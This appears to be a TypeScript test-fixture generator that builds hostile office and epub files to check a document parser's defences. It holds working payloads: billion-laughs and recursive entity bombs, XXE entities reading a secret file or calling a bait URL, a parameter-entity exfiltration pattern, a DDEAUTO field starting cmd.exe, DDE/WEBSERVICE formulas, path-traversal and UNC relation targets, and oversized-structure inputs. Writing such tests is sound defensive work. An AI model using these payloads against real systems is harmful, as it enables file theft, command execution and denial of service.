import { containers, packed, type Container, type XmlPart } from './office-containers.js';
import { relationsPart } from '../builders/office-fixture.js';
import type { Bait, HostileFile, Kitchen, Recipe } from './hostile-file.js';

const laughs = (levels: number, width: number): string =>
  [
    '<!ENTITY l0 "ha">',
    ...Array.from({ length: levels }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(width)}">`),
  ].join('');

/** What stands in the text part, whichever format's it is. */
const textAttacks = ({ url, secretFile }: Bait): [string, () => XmlPart][] => [
  ['a billion laughs', () => ({ doctype: `<!DOCTYPE x [${laughs(9, 10)}]>`, text: '&l9;' })],
  [
    'one long entity 50,000 times',
    () => ({ doctype: `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`, text: '&a;'.repeat(50_000) }),
  ],
  [
    'an entity that holds itself',
    () => ({ doctype: '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', text: '&a;' }),
  ],
  [
    'an entity from a file',
    () => ({ doctype: `<!DOCTYPE x [<!ENTITY s SYSTEM "file://${secretFile}">]>`, text: 'Text &s;' }),
  ],
  [
    'an entity from the net',
    () => ({ doctype: `<!DOCTYPE x [<!ENTITY s SYSTEM "${url}/entity">]>`, text: 'Text &s;' }),
  ],
  [
    'a document type from the net',
    () => ({ doctype: `<!DOCTYPE x SYSTEM "${url}/type.dtd">`, text: 'Some harmless text.' }),
  ],
  [
    'a parameter entity that sends a file',
    () => ({
      doctype: `<!DOCTYPE x [<!ENTITY % d SYSTEM "${url}/send.dtd"> %d; %send;]>`,
      text: 'Text &exfil;',
    }),
  ],
  [
    '50,000 elements deep',
    () => ({ text: 'x', elements: `${'<x>'.repeat(50_000)}deep${'</x>'.repeat(50_000)}` }),
  ],
  ['500,000 empty elements', () => ({ text: 'x', elements: '<x/>'.repeat(500_000) })],
  [
    'an element with 50,000 attributes',
    () => ({
      text: 'x',
      elements: `<x ${Array.from({ length: 50_000 }, (_, at) => `a${at}="v"`).join(' ')}/>`,
    }),
  ],
  ['an attribute of 5 MB', () => ({ text: 'x', elements: `<x a="${'v'.repeat(5_000_000)}"/>` })],
  ['elements that never close', () => ({ text: 'x', elements: '<x>'.repeat(1_000) })],
  ['an unfinished comment', () => ({ text: 'x', elements: '<!-- '.repeat(20_000) })],
  ['characters that XML forbids', () => ({ text: 'a\u0000b\u0001\ufffe&#0;&#xd800;&#x110000;' })],
  [
    'script in the text',
    () => ({ text: '&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;' }),
  ],
  ['one word of a million letters', () => ({ text: '가'.repeat(1_000_000) })],
];

const word = (element: string): XmlPart => ({ text: 'Some text.', elements: element });

/** What only one format has. */
const ownAttacks: Record<string, [string, () => XmlPart][]> = {
  docx: [
    [
      'a table cell that spans a thousand million columns',
      () =>
        word(
          '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>cell</w:t></w:r></w:p></w:tc></w:tr></w:tbl>',
        ),
    ],
    [
      'tables 2,000 deep',
      () =>
        word(
          `${'<w:tbl><w:tr><w:tc>'.repeat(2_000)}<w:p><w:r><w:t>in</w:t></w:r></w:p>${'</w:tc></w:tr></w:tbl>'.repeat(2_000)}`,
        ),
    ],
    [
      'fields that call out',
      () =>
        word(
          '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>',
        ),
    ],
  ],
  xlsx: [
    [
      'a cell in the last row and column',
      () => word('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>last</t></is></c></row>'),
    ],
    [
      'a cell far beyond any sheet',
      () => word('<row r="999999999"><c r="ZZZZZZZ999999999" t="inlineStr"><is><t>far</t></is></c></row>'),
    ],
    [
      'strings that are not there',
      () => word('<row r="2"><c r="A2" t="s"><v>99999999</v></c><c r="B2" t="s"><v>-1</v></c></row>'),
    ],
    [
      'a formula that calls out',
      () => word('<row r="2"><c r="A2"><f>WEBSERVICE("http://127.0.0.1/")</f><v>=cmd|calc</v></c></row>'),
    ],
    [
      '20,000 cells at both ends of rows',
      () =>
        word(
          Array.from(
            { length: 10_000 },
            (_, at) =>
              `<row r="${at + 2}"><c r="A${at + 2}"><v>1</v></c><c r="XFD${at + 2}"><v>2</v></c></row>`,
          ).join(''),
        ),
    ],
  ],
  odt: [
    [
      'a thousand million spaces in one element',
      () => word('<text:p>a<text:s text:c="1000000000"/>b</text:p>'),
    ],
    [
      'lists 5,000 deep',
      () =>
        word(
          `${'<text:list><text:list-item>'.repeat(5_000)}<text:p>in</text:p>${'</text:list-item></text:list>'.repeat(5_000)}`,
        ),
    ],
  ],
  ods: [
    [
      'a cell repeated a thousand million times',
      () =>
        word(
          '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1000000000"><text:p>again</text:p></table:table-cell></table:table-row>',
        ),
    ],
    [
      'negative and absurd repetitions',
      () =>
        word(
          '<table:table-row table:number-rows-repeated="-5"><table:table-cell table:number-columns-repeated="1e99"><text:p>again</text:p></table:table-cell></table:table-row>',
        ),
    ],
  ],
};

const file = (container: Container, part: XmlPart, more: [string, string][] = []): HostileFile => ({
  filename: `attack.${container.extension}`,
  bytes: packed([...container.entries(part), ...more]),
});

/** Relations and links to the outside, and to parts that are not there or lead in a circle. */
const references = (bait: Bait): Recipe[] => {
  const [docx, xlsx, pptx, , , , epub] = containers as [
    Container,
    Container,
    Container,
    Container,
    Container,
    Container,
    Container,
  ];
  const targets = [
    `${bait.url}/template`,
    `file://${bait.secretFile}`,
    `\\\\127.0.0.1\\${bait.token}`,
    `../../../../../../${bait.secretFile}`,
    'document.xml',
  ];
  const kinds = ['attachedTemplate', 'image', 'oleObject', 'styles', 'footnotes'];
  const overrides = (container: Container, rels: string, target: string): HostileFile => ({
    filename: `reference.${container.extension}`,
    bytes: packed([
      ...container.entries({ text: 'Text beside a reference.' }).filter(([name]) => name !== rels),
      [rels, relationsPart(kinds.map((kind, at) => [`rId${at + 1}`, kind, target]))],
    ]),
  });
  return [
    ...targets.flatMap((target, at): Recipe[] => [
      {
        kind: 'external reference',
        about: `docx relation ${at}`,
        make: () => overrides(docx, 'word/_rels/document.xml.rels', target),
      },
      {
        kind: 'external reference',
        about: `xlsx relation ${at}`,
        make: () => overrides(xlsx, 'xl/_rels/workbook.xml.rels', target),
      },
      {
        kind: 'external reference',
        about: `pptx relation ${at}`,
        make: () => overrides(pptx, 'ppt/_rels/presentation.xml.rels', target),
      },
    ]),
    {
      kind: 'external reference',
      about: 'epub images, styles and scripts',
      make: () =>
        file(epub, {
          text: 'Text',
          elements: `<img src="${bait.url}/i.png"/><script src="${bait.url}/s.js"></script><iframe src="file://${bait.secretFile}"/>`,
        }),
    },
  ];
};

export const xmlAttacks = ({ bait }: Kitchen): Recipe[] => [
  ...containers.flatMap((container) =>
    [...textAttacks(bait), ...(ownAttacks[container.extension] ?? [])].map(([about, part]): Recipe => ({
      kind: 'office XML',
      about: `${container.extension} ${about}`,
      make: () => file(container, part()),
    })),
  ),
  ...references(bait),
];
